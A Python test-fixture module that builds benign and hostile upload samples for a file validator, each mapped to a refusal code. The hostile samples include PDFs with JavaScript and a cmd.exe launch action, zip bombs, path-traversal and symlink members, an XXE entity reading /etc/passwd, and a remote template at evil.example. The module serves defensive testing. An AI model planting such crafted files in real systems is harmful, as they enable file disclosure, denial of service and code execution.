"""Files that are sent in, good and hostile, built in code: nothing of them lies in the repository."""

import io
import struct
import zipfile
import zlib

import pikepdf
from PIL import Image

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR" + b"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
JPEG, PNG, WEBP, PDF, M4A = "image/jpeg", "image/png", "image/webp", "application/pdf", "audio/mp4"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
ODT = "application/vnd.oasis.opendocument.text"
CANARY = b"CANARY-31.3187N-113.5369W"  # stands for a place that a camera wrote beside the picture


def picture(form="JPEG", size=(60, 40), exif=True, **saved) -> bytes:
    made = Image.new("RGB", size, (200, 30, 30))
    out = io.BytesIO()
    if exif:
        tags = Image.Exif()
        tags[0x010E] = CANARY.decode()  # ImageDescription
        tags[0x0112] = 6  # turned by a quarter
        tags.get_ifd(0x8825)[1] = "N"  # GPS
        saved["exif"] = tags
    made.save(out, form, **saved)
    return out.getvalue()


def chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png_of(width: int, height: int) -> bytes:
    """A PNG that says it is so large, of a few bytes."""
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 1_000)) + chunk(b"IEND", b"")


def pdf(change=None, **saved) -> bytes:
    made = pikepdf.new()
    made.add_blank_page(page_size=(200, 200))
    made.docinfo["/Author"] = CANARY.decode()
    with made.open_metadata() as words:
        words["dc:creator"] = [CANARY.decode()]
    if change:
        change(made)
    out = io.BytesIO()
    made.save(out, **saved)
    return out.getvalue()


def with_script(made):
    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    made.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=[pikepdf.String("a"), pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("b"))])
    )


def with_launch(made):
    action = made.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe")))
    mark = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action)
    made.pages[0].Annots = made.make_indirect(pikepdf.Array([made.make_indirect(mark)]))


def with_file(made):
    made.attachments["inner.exe"] = b"MZ hidden"


def with_file_mark(made):
    held = pikepdf.Dictionary(F=made.make_stream(b"MZ hidden"))
    mark = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=[0, 0, 9, 9], FS=pikepdf.Dictionary(EF=held)
    )
    made.pages[0].Annots = pikepdf.Array([mark])


def with_xfa(made):
    made.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=made.make_stream(b"<xdp:xdp><script>evil</script></xdp:xdp>"))


def with_signature(made):
    made.Root.AcroForm = pikepdf.Dictionary(Fields=[pikepdf.Dictionary(V=pikepdf.Dictionary(ByteRange=[0, 1, 2, 3]))])


def packet(members: dict, **changed) -> bytes:
    """A ZIP of those members; a member may be a ready ZipInfo."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in members.items():
            made.writestr(name, content, compress_type=zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED)
    return out.getvalue()


RELS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="{}"/></Types>'


def docx_members(**more) -> dict:
    return {
        "[Content_Types].xml": TYPES.format("application/xml"),
        "_rels/.rels": RELS.format(""),
        "word/document.xml": '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>',
        "docProps/core.xml": f"<cp:coreProperties xmlns:cp='x'><a>{CANARY.decode()}</a></cp:coreProperties>",
        "word/media/image1.jpeg": picture(),
    }


def docx(more: dict | None = None) -> bytes:
    return packet(docx_members() | (more or {}))


def odt(more: dict | None = None) -> bytes:
    members = {
        "mimetype": ODT,
        "content.xml": '<o:document-content xmlns:o="urn:oasis:names:tc:opendocument:xmlns:office:1.0"><o:scripts/></o:document-content>',
        "meta.xml": f"<meta>{CANARY.decode()}</meta>",
        "META-INF/manifest.xml": '<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>',
    }
    return packet(members | (more or {}))


def symlink() -> zipfile.ZipInfo:
    made = zipfile.ZipInfo("word/link.xml")
    made.external_attr = 0o120777 << 16
    return made


def box(kind: bytes, *held: bytes) -> bytes:
    content = b"".join(held)
    return struct.pack(">I", len(content) + 8) + kind + content


def m4a(handler=b"soun", brand=b"M4A ", after=b"") -> bytes:
    head = box(b"hdlr", bytes(8), handler, bytes(12), b"Apple\0")
    words = box(b"udta", box(b"\xa9xyz", CANARY))
    tables = box(b"stbl", box(b"stco", bytes(8)))
    track = box(b"trak", box(b"tkhd", bytes(84)), box(b"mdia", head, box(b"minf", tables)))
    return box(b"ftyp", brand, bytes(4), b"isom") + box(b"moov", box(b"mvhd", bytes(100)), track, words) + box(b"mdat", bytes(64)) + after


def encrypted_members() -> bytes:
    """A text whose members say that they are locked."""
    made = bytearray(docx())
    at = 0
    while (at := made.find(b"PK\x01\x02", at)) != -1:
        made[at + 8] |= 1
        at += 4
    made[6] |= 1
    return bytes(made)


def lying_bomb() -> bytes:
    """A text with a member that says it is small and unpacks to 150 MB."""
    made = bytearray(docx({"word/bomb.bin": b"\0" * 150_000_000}))
    for mark, at_size in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        at = made.find(b"word/bomb.bin") if mark == b"PK\x03\x04" else made.rfind(b"word/bomb.bin")
        start = made.rfind(mark, 0, at)
        made[start + at_size : start + at_size + 4] = struct.pack("<I", 10)
    return bytes(made)


def nested(levels: int) -> bytes:
    inner = b"\0" * 100_000
    for _level in range(levels):
        inner = packet({f"{copy}.zip": inner for copy in range(3)})
    return inner


LAUGHS = '<!DOCTYPE lolz [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;">]><w:document>&b;</w:document>'
OUTSIDE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document>&e;</w:document>'
TEMPLATE = RELS.format(
    '<Relationship Id="1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
    ' Target="http://evil.example/t.dotm" TargetMode="External"/>'
)
LISTENER = (
    '<office:document-content xmlns:office="o" xmlns:script="s"><office:scripts><office:event-listeners>'
    '<script:event-listener script:event-name="dom:load"/></office:event-listeners></office:scripts></office:document-content>'
)

# what it is -> name, declared type, bytes, the code of the refusal
HOSTILE = {
    "EICAR alone": ("eicar.com", "application/octet-stream", lambda: EICAR, "kind"),
    "EICAR as PDF": ("eicar.pdf", PDF, lambda: EICAR, "kind"),
    "a programme as PDF": ("carta.pdf", PDF, lambda: b"MZ" + bytes(200), "kind"),
    "a page as PDF": ("carta.pdf", PDF, lambda: b"<!doctype html><script>alert(1)</script>", "kind"),
    "a page": ("carta.html", "text/html", lambda: b"<html></html>", "kind"),
    "a drawing (SVG)": ("foto.svg", "image/svg+xml", lambda: b"<svg onload=alert(1)>", "kind"),
    "a drawing (SVG) as PNG": ("foto.png", PNG, lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "kind"),
    "a ZIP": ("todo.zip", "application/zip", lambda: packet({"a.txt": "a"}), "kind"),
    "a ZIP as DOCX": ("carta.docx", DOCX, lambda: packet({"a.txt": "a"}), "kind"),
    "an ODT as DOCX": ("carta.docx", DOCX, odt, "kind"),
    "a JPEG as PNG": ("foto.png", PNG, picture, "kind"),
    "a JPEG declared as a page": ("foto.jpg", "text/html", picture, "kind"),
    "two endings": ("foto.jpg.exe", JPEG, picture, "kind"),
    "no ending": ("foto", JPEG, picture, "kind"),
    "ending hidden by a turned direction": ("foto\u202egpj.exe", JPEG, picture, "kind"),
    "ending hidden by a NUL": ("foto.exe\0.jpg.exe", JPEG, picture, "kind"),
    "empty": ("vacio.pdf", PDF, lambda: b"", "empty"),
    "larger than 20 MB": ("grande.pdf", PDF, lambda: b"%PDF-1.7" + bytes(20_000_001), "size"),
    "a picture of 60,000 by 60,000": ("foto.png", PNG, lambda: png_of(60_000, 60_000), "pixels"),
    "a picture of 41 million pixels": ("foto.png", PNG, lambda: png_of(41_000, 1_000), "pixels"),
    "a picture cut off": ("foto.jpg", JPEG, lambda: picture(size=(400, 400))[:900], "damaged"),
    "a PNG with nothing in it": ("foto.png", PNG, lambda: b"\x89PNG\r\n\x1a\n" + bytes(50), "damaged"),
    "a PNG that says more than it holds": ("foto.png", PNG, lambda: png_of(3_000, 3_000), "damaged"),
    "a WebP that moves": (
        "foto.webp",
        WEBP,
        lambda: picture("WEBP", exif=False, save_all=True, append_images=[Image.new("RGB", (60, 40), (1, 2, 3))]),
        "moving",
    ),
    "JPEG and ZIP": ("foto.jpg", JPEG, lambda: picture() + packet({"a.html": "<script>"}), "two things"),
    "JPEG and page": ("foto.jpg", JPEG, lambda: picture() + b"<html><script>alert(1)</script></html>", "two things"),
    "JPEG with a page in its comment": ("foto.jpg", JPEG, lambda: picture(comment=b"<script>alert(1)</script>"), "two things"),
    "PNG and PDF": ("foto.png", PNG, lambda: picture("PNG") + pdf(), "two things"),
    "PDF and ZIP": ("carta.pdf", PDF, lambda: pdf() + packet({"a": "b"}), "two things"),
    "PDF and page": ("carta.pdf", PDF, lambda: pdf() + b"<script>alert(1)</script>", "two things"),
    "a page before a PDF": ("carta.pdf", PDF, lambda: b"<html>" + pdf(), "kind"),
    "M4A and ZIP": ("voz.m4a", M4A, lambda: m4a(after=box(b"free", packet({"a": "b"}))), "two things"),
    "a PDF cut off": ("carta.pdf", PDF, lambda: pdf()[:300], "damaged"),
    "a PDF of nothing": ("carta.pdf", PDF, lambda: b"%PDF-1.7\n%%EOF", "damaged"),
    "a locked PDF": ("carta.pdf", PDF, lambda: pdf(encryption=pikepdf.Encryption(owner="a", user="b")), "locked"),
    "a PDF locked against changes": ("carta.pdf", PDF, lambda: pdf(encryption=pikepdf.Encryption(owner="a", user="")), "locked"),
    "a text with a macro": ("carta.docx", DOCX, lambda: docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "macros"),
    "a macro text (DOCM) renamed": (
        "carta.docx",
        DOCX,
        lambda: docx({"[Content_Types].xml": TYPES.format("application/vnd.ms-word.document.macroEnabled.main+xml")}),
        "macros",
    ),
    "a macro text (DOCM)": ("carta.docm", "application/vnd.ms-word.document.macroEnabled.12", docx, "kind"),
    "an ODT with Basic": ("carta.odt", ODT, lambda: odt({"Basic/Standard/Module1.xml": "<a/>"}), "macros"),
    "an ODT that runs when opened": ("carta.odt", ODT, lambda: odt({"content.xml": LISTENER}), "macros"),
    "an ODT that is locked": (
        "carta.odt",
        ODT,
        lambda: odt({"META-INF/manifest.xml": '<m:manifest xmlns:m="x"><m:encryption-data/></m:manifest>'}),
        "locked",
    ),
    "a locked DOCX": ("carta.docx", DOCX, encrypted_members, "locked"),
    "a ZIP bomb": ("carta.docx", DOCX, lambda: docx({"word/a.bin": b"\0" * 101_000_000}), "bomb"),
    "a ZIP bomb that lies": ("carta.docx", DOCX, lying_bomb, ("bomb", "damaged")),
    "a thousand members": ("carta.docx", DOCX, lambda: docx({f"word/{n}.xml": "<a/>" for n in range(1_001)}), "bomb"),
    "ZIPs in ZIPs": ("carta.docx", DOCX, lambda: docx({"word/inner.bin": nested(5)}), "within"),
    "another file within": ("carta.docx", DOCX, lambda: docx({"word/embeddings/oleObject1.bin": b"a"}), "within"),
    "a member that climbs out": ("carta.docx", DOCX, lambda: docx({"../../etc/passwd": b"root"}), "outside"),
    "a member from the root": ("carta.docx", DOCX, lambda: docx({"/etc/passwd": b"root"}), "outside"),
    "a member with a drive": ("carta.docx", DOCX, lambda: docx({"C:evil.xml": b"<a/>"}), "outside"),
    "a link": ("carta.docx", DOCX, lambda: docx({symlink(): b"/etc/passwd"}), "outside"),
    "a thousand laughs": ("carta.docx", DOCX, lambda: docx({"word/document.xml": LAUGHS}), "entities"),
    "an entity from outside": ("carta.docx", DOCX, lambda: docx({"word/document.xml": OUTSIDE}), "entities"),
    "a template from outside": ("carta.docx", DOCX, lambda: docx({"word/_rels/settings.xml.rels": TEMPLATE}), "outside"),
    "a text behind a page": ("carta.docx", DOCX, lambda: b"<html>" + docx(), "kind"),
    "a text and a page": ("carta.docx", DOCX, lambda: docx() + b"<script>alert(1)</script>", "damaged"),
    "a text cut off": ("carta.docx", DOCX, lambda: docx()[:-40], "damaged"),
    "a film as M4A": ("voz.m4a", M4A, lambda: m4a(handler=b"vide"), "not sound"),
    "a recording of an unknown brand": ("voz.m4a", M4A, lambda: m4a(brand=b"qt  "), "damaged"),
    "a recording cut off": ("voz.m4a", M4A, lambda: m4a()[:-10], "damaged"),
    "a recording with bytes behind it": ("voz.m4a", M4A, lambda: m4a(after=b"\0\0\0\x20evil" + bytes(24)), "damaged"),
}
GOOD = {
    "foto.jpg": (JPEG, picture),
    "foto.jpeg": (JPEG, lambda: picture(size=(4, 4))),
    "foto.png": (PNG, lambda: picture("PNG")),
    "foto.webp": (WEBP, lambda: picture("WEBP")),
    "carta.pdf": (PDF, pdf),
    "carta.docx": (DOCX, docx),
    "carta.odt": (ODT, odt),
    "voz.m4a": (M4A, m4a),
}
